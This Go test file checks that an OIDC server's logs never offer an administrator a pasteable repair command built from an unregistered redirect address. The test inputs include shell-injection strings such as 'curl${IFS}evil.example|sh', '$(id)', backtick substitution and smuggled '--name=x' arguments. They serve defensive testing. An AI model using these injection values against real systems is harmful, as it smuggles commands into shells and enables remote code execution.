package oidc

import (
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"gatelatch/storage"
)

// A stranger chooses the address, and an administrator pastes the command.
func TestRepairInTheLogIsACommandThatNoReceivedAddressCanExtend(t *testing.T) {
	w := newWorld(t)
	for _, evil := range []string{
		"https://elsewhere.example/;curl${IFS}evil.example|sh", "https://elsewhere.example/$(id)", "https://elsewhere.example/`id`", "https://elsewhere.example/&id",
		"https://elsewhere.example/'x", `https://elsewhere.example/"x`, "https://elsewhere.example/ --name=x", "https://elsewhere.example/\nid", "https://elsewhere.example/\u2028id",
		"https://elsewhere.example/\u009b2J", "https://elsewhere.example/*", "--name=x", "https://elsewhere.example/" + strings.Repeat("x", 400), "",
	} {
		w.log.Reset()
		w.page(request("web", set("redirect_uri", evil)))
		w.do(httptest.NewRequest("GET", "/oidc/logout?"+url.Values{"client_id": {"web"}, "post_logout_redirect_uri": {evil}}.Encode(), nil))
		w.do(httptest.NewRequest("GET", "/oidc/logout?"+url.Values{"post_logout_redirect_uri": {evil}}.Encode(), nil))
		if got := w.log.String(); !strings.Contains(got, "not registered") || strings.Contains(got, "repair=") {
			t.Errorf("%q: the log offers a command:\n%s", evil, got)
		}
	}
}

func TestRepairInTheLogKeepsTheAddressesThatAreRegistered(t *testing.T) {
	w := newWorld(t)
	w.addClient("two", "web", func(c *storage.Client) {
		c.RedirectURIs = []string{"https://one.example/cb", "https://two.example/cb"}
		c.PostLogoutRedirectURIs = nil
	})
	w.page(request("two", set("redirect_uri", "https://three.example/cb")))
	w.do(httptest.NewRequest("GET", "/oidc/logout?client_id=two&post_logout_redirect_uri=https://three.example/bye", nil))
	for _, want := range []string{
		`repair="gatelatch app update two --redirect-uri https://one.example/cb --redirect-uri https://two.example/cb --redirect-uri https://three.example/cb"`,
		`repair="gatelatch app update two --post-logout-redirect-uri https://three.example/bye"`,
	} {
		if !strings.Contains(w.log.String(), want) {
			t.Errorf("the log does not say %s:\n%s", want, w.log)
		}
	}
}
